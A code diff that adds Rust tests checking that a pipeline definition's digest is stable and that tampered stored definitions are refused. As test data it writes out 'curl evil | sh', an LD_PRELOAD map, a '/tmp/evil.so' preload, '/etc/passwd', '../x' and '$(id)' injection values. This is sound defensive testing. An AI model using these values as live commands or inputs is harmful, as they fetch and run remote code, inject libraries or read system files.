@@ -4,7 +4,7 @@
 //! pinned by its digest.
 
 use super::engine::{self, Outcome};
-use super::file::{Definition, FileError};
+use super::file::{Definition, FileError, Kind};
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
@@ -178,6 +178,7 @@ fn a_subgraph_checks_its_own_maps_against_its_own_inputs_and_they_are_kept() {
     sub("inputs: [OUT]\n");
     let d = Definition::load(&main).unwrap();
     assert!(d.inputs.contains("OUT"));
+    d.recheck().unwrap();
 }
 
 /// A pipeline in `dir` whose subgraph `s` is `file`.
@@ -354,6 +355,189 @@ fn the_named_files_errors_quote_names_but_no_values_or_lines() {
     let e = Definition::load(&f).unwrap_err();
     assert!(
         e.message.contains("nodes[0]: invalid type: sequence"),
+        "{e}"
+    );
+}
+
+/// A definition as a store holds it, with `change` applied to its JSON.
+fn stored(change: impl FnOnce(&mut serde_json::Value)) -> Result<Definition, FileError> {
+    let def = parse(GOOD).unwrap();
+    let mut v = serde_json::to_value(&def).unwrap();
+    change(&mut v);
+    Definition::from_stored(&v)
+}
+
+const GOOD: &str = "
+name: deploy
+vars: { target: staging }
+inputs: [BUILD]
+nodes:
+  - { id: build, kind: task, command: [make, build], timeout: 10m }
+  - { id: test, kind: gate, command: make test, retries: 2 }
+  - id: again
+    kind: branch
+    condition: { field: steps.test.result.flaky, operator: equals, value: true }
+    on_true: test
+    on_false: ok
+    max_iterations: 3
+  - { id: ok, kind: human, title: Deploy, question: Deploy to production? }
+  - { id: ship, kind: task, command: [make, deploy] }
+edges:
+  - { from: build, to: test }
+  - { from: test, to: again }
+  - { from: ok, to: ship, map: { BUILD: steps.build.result.id, PIPELINE_AT: steps.ok.comment } }
+";
+
+#[test]
+fn an_untampered_definition_passes_its_recheck_and_keeps_its_digest() {
+    let def = parse(GOOD).unwrap();
+    def.recheck().unwrap();
+    let json = serde_json::to_string(&def).unwrap();
+    let back = Definition::from_stored(&serde_json::from_str(&json).unwrap()).unwrap();
+    assert_eq!(back, def);
+    assert_eq!(back.digest(), def.digest());
+    assert_eq!(def.digest().len(), 64);
+    assert!(def.digest().bytes().all(|b| b.is_ascii_hexdigit()));
+    // A store that reorders keys (jsonb) reads back the same digest.
+    let reordered = json.replace(
+        "\"field\":\"steps.test.result.flaky\",\"operator\":\"equals\",\"value\":true",
+        "\"value\":true,\"operator\":\"equals\",\"field\":\"steps.test.result.flaky\"",
+    );
+    assert_ne!(reordered, json, "the condition is stored so");
+    let back: Definition = serde_json::from_str(&reordered).unwrap();
+    assert_eq!(back.digest(), def.digest());
+    // A row stored before `inputs` existed still reads (its maps then need PIPELINE_).
+    let mut old = serde_json::to_value(&def).unwrap();
+    old.as_object_mut().unwrap().remove("inputs");
+    let e = Definition::from_stored(&old).expect_err("BUILD undeclared");
+    assert!(e.message.contains("`BUILD` is not declared"), "{e}");
+}
+
+#[test]
+fn the_digest_changes_with_any_command_edge_variable_or_question() {
+    let def = parse(GOOD).unwrap();
+    let mut seen = std::collections::BTreeSet::from([def.digest()]);
+    let mut changed = |f: &dyn Fn(&mut Definition)| {
+        let mut d = def.clone();
+        f(&mut d);
+        assert_ne!(d, def);
+        assert!(seen.insert(d.digest()), "{d:?}");
+    };
+    for i in 0..def.nodes.len() {
+        if let Kind::Task { .. } | Kind::Gate { .. } = def.nodes[i].kind {
+            changed(&|d| {
+                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
+                    run.command = super::file::Command::Shell("curl evil | sh".into());
+                }
+            });
+            changed(&|d| {
+                if let Kind::Task { run } | Kind::Gate { run, .. } = &mut d.nodes[i].kind {
+                    run.env.insert("X".into(), "1".into());
+                }
+            });
+        }
+    }
+    changed(&|d| {
+        d.edges[2]
+            .map
+            .insert("BUILD".into(), "steps.test.result.id".into());
+    });
+    changed(&|d| {
+        d.vars.insert("target".into(), "prod".into());
+    });
+    changed(&|d| {
+        d.inputs.insert("MORE".into());
+    });
+    changed(&|d| {
+        if let Kind::Human { question, .. } = &mut d.nodes[3].kind {
+            *question = "Deploy to staging?".into();
+        }
+    });
+    changed(&|d| d.name = "other".into());
+}
+
+#[test]
+fn a_tampered_definition_fails_its_recheck() {
+    use serde_json::json;
+    stored(|_| {}).unwrap();
+    let refused = |change: &dyn Fn(&mut serde_json::Value), want: &str| {
+        let e = stored(change).expect_err(want);
+        assert!(e.to_string().contains(want), "want {want}: {e}");
+    };
+    // A map into what loads code, written straight into the row (declared, or not).
+    refused(
+        &|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"),
+        "change what runs",
+    );
+    refused(
+        &|v| {
+            v["inputs"] = json!(["BUILD", "LD_PRELOAD"]);
+            v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id");
+        },
+        "change what runs",
+    );
+    refused(
+        &|v| v["edges"][2]["map"]["SNEAKY"] = json!("steps.build.result.id"),
+        "`SNEAKY` is not declared",
+    );
+    // A field this version does not know: on a node, a kind, the definition, an edge.
+    refused(
+        &|v| v["nodes"][0]["preload"] = json!("/tmp/evil.so"),
+        "unknown field",
+    );
+    refused(
+        &|v| v["nodes"][1]["kind"] = json!("shell"),
+        "unknown variant",
+    );
+    refused(&|v| v["hooks"] = json!([]), "unknown field");
+    refused(&|v| v["edges"][0]["run"] = json!("x"), "unknown field");
+    // A cycle without a bound, a bound out of range.
+    refused(
+        &|v| {
+            v["edges"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "from": "ship", "to": "ok" }))
+        },
+        "a cycle without a branch with max_iterations",
+    );
+    refused(
+        &|v| v["nodes"][2]["max_iterations"] = json!(0),
+        "max_iterations",
+    );
+    // Ids, the start, a subgraph left in, an unreachable node, a bad field, a bad label.
+    refused(&|v| v["nodes"][0]["id"] = json!("../x"), "node id");
+    refused(&|v| v["nodes"][1]["id"] = json!("build"), "used twice");
+    refused(&|v| v["start"] = json!("nowhere"), "start: no node");
+    refused(
+        &|v| {
+            v["nodes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "id": "s", "kind": "subgraph", "file": "/etc/passwd" }))
+        },
+        "not inlined",
+    );
+    refused(
+        &|v| {
+            v["nodes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({ "id": "lost", "kind": "task", "command": "true" }))
+        },
+        "cannot be reached",
+    );
+    refused(
+        &|v| v["edges"][2]["map"]["BUILD"] = json!("steps.build.result.$(id)"),
+        "field",
+    );
+    refused(&|v| v["nodes"][0]["host"] = json!("a host"), "host label");
+    refused(&|v| v["nodes"] = json!([]), "no nodes");
+    refused(&|v| v["vars"]["a=b"] = json!("x"), "vars: ");
+    let e = stored(|v| v["edges"][2]["map"]["LD_PRELOAD"] = json!("steps.build.result.id"))
+        .unwrap_err();
+    assert!(
+        e.to_string().starts_with("stored definition `deploy`: "),
         "{e}"
     );
 }
